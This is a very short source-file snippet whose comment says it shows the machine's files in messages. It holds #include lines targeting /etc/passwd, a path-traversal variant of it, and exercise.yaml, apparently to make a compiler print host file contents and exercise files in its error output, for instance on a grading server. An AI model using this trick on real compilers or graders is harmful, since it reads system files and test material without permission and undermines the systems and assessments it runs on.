// Shows files of the machine in messages.
#include "/etc/passwd"
#include "../../../../../../etc/passwd"
#include "exercise.yaml"
